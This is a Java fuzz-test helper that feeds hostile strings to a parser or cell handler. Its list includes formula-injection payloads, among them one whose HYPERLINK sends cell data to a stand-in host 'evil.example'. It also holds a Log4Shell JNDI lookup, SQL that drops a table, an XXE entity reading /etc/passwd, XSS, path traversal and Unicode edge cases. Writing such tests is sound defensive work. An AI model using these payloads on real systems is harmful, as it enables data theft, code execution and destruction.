package org.fengqiao.ops.fuzz.hostile;

import java.util.List;
import java.util.Random;

/** Texts that honest cells do not hold. */
final class HostileText {

  private static final List<String> TEXTS =
      List.of(
          "=cmd|'/c calc'!A1",
          "=HYPERLINK(\"http://evil.example/?\"&A1)",
          "@SUM(1+1)*cmd",
          "+86-21\t-1",
          "'; drop table hub.inbox; --",
          "${jndi:ldap://evil.example/a}",
          "#{T(java.lang.Runtime).getRuntime()}",
          "{{7*7}}{0}{1,number,#}%s%n%x",
          "<script>alert(1)</script>&amp;&#0;]]>",
          "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>&b;",
          "../../../../etc/passwd",
          "\\\\evil\\share\\x",
          "\u202Eexe.\u202C\u200B\u2066\uFEFF",
          "\uD83D\uDE00\uD840\uDC00\uDBFF\uDFFD",
          "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
          "\uFFFD\uFFFC\u00AD\u0085\u2028\u2029",
          "\"\"\"\",\"\r\n\"\n\r",
          "NaN",
          "-0",
          "1e400",
          "999999999999999999999999999999999999999999",
          "九千九百九十九亿亿亿亿",
          "〔2019〕〔〔（（((（2020）沪0118民初1234号".repeat(4),
          "、,，;；".repeat(50),
          "甲、".repeat(400),
          "0000-00-00 00:00:00",
          "null",
          "\u00A0\u3000\u2003",
          "[".repeat(300) + "]",
          "13800138000".repeat(30));

  private static final String LETTERS = "调解纠纷邻里abcXYZ0129 ,;\"'\\/=<>&%$|〔〕（）万元号第";

  private HostileText() {}

  /** One of the known tricks, or letters at random. */
  static String of(Random dice) {
    if (dice.nextInt(4) > 0) {
      return TEXTS.get(dice.nextInt(TEXTS.size()));
    }
    int length = dice.nextInt(1, 200);
    StringBuilder text = new StringBuilder(length);
    for (int place = 0; place < length; place++) {
      text.appendCodePoint(letter(dice));
    }
    return text.toString();
  }

  /** A letter that every Unicode encoding can write. */
  private static int letter(Random dice) {
    if (dice.nextInt(3) > 0) {
      return LETTERS.charAt(dice.nextInt(LETTERS.length()));
    }
    int letter = dice.nextInt(1, Character.MAX_CODE_POINT);
    return Character.getType(letter) == Character.SURROGATE ? '?' : letter;
  }
}
